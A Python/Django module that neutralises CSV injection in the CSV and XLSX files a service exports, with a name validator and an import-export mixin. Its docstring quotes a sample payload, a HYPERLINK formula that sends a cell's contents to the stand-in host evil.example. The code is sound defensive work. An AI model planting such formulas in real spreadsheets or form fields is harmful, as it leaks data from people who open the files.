"""Every CSV and XLSX the service writes goes through here, so that no cell is ever run
as a formula by the spreadsheet that opens it (OWASP "CSV injection"): a name such as
`=HYPERLINK("http://evil.example/?d="&A1,"klik")` typed into a claim must reach the
bank file, the registry feedback and the office's archive as text.

Two defences, both needed: a text cell beginning with a formula character gets a
leading apostrophe (what spreadsheets themselves use to mark "this is text"), and XLSX
text cells are written with the string type, never left to openpyxl's guess (it turns
any text starting with "=" into a formula)."""

import csv
import io
from collections.abc import Iterable
from datetime import date, datetime

from django.core.exceptions import ValidationError
from django.utils import timezone
from django.utils.translation import gettext as _
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# Characters with which a spreadsheet starts a formula (or, for tab and carriage
# return, with which some programs do on import).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def starts_like_formula(value: str) -> bool:
    return (value or "").startswith(FORMULA_STARTS)


def safe_text(value: str) -> str:
    """A cell text that a spreadsheet shows as text and never evaluates."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def safe_value(value):
    """A value fit for a cell: text neutralised, numbers and dates as they are, None
    as an empty cell, aware datetimes as the local day (the office's calendar)."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        return timezone.localtime(value).date() if timezone.is_aware(value) else value
    if isinstance(value, bool | int | float | date):
        return value
    return safe_text(str(value))


def csv_text(
    header: list[str],
    rows: Iterable[Iterable],
    *,
    delimiter: str = ",",
    lineterminator: str = "\r\n",
    footer: Iterable[list] = (),
) -> str:
    """The CSV text of `header`, `rows` and `footer` rows (e.g. a bank control row),
    every cell neutralised."""
    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=delimiter, lineterminator=lineterminator)
    for row in (header, *rows, *footer):
        writer.writerow([safe_value(value) for value in row])
    return out.getvalue()


def xlsx_row(sheet: WriteOnlyWorksheet, values: Iterable) -> list:
    """Cells for `sheet.append`: text as strings (never formulas), stripped of the
    control characters XLSX cannot hold (openpyxl would refuse the whole file)."""
    cells = []
    for value in values:
        value = safe_value(value)
        if isinstance(value, str):
            cell = WriteOnlyCell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("", value))
            cell.data_type = "s"
        else:
            cell = WriteOnlyCell(sheet, value=value)
        cells.append(cell)
    return cells


def xlsx_workbook(title: str, header: list[str], rows: Iterable[Iterable], *, target=None):
    """An .xlsx with one sheet, written row by row (write-only mode) into `target` (a
    file object) or, without one, returned as bytes."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title)
    sheet.append(xlsx_row(sheet, header))
    for row in rows:
        sheet.append(xlsx_row(sheet, row))
    if target is not None:
        workbook.save(target)
        return target
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


class SafeExportMixin:
    """For django-import-export resources: the admin's exports (CSV, XLSX and the
    rest) neutralise text cells the same way."""

    def export_field(self, field, instance, **kwargs):
        value = super().export_field(field, instance, **kwargs)
        return safe_text(value) if isinstance(value, str) else value


def name_problem(value: str) -> str | None:
    """Names end up in the bank file and the registry reports: one that begins like a
    formula is refused where it is typed (no person's name begins with these), on top
    of the writer's neutralising."""
    if starts_like_formula((value or "").lstrip(" ")):
        return _("Nama tidak boleh diawali tanda =, +, -, @ atau tab. Tulis nama seperti di KTP.")
    return None


def validate_name(value: str) -> None:
    if problem := name_problem(value):
        raise ValidationError(problem)
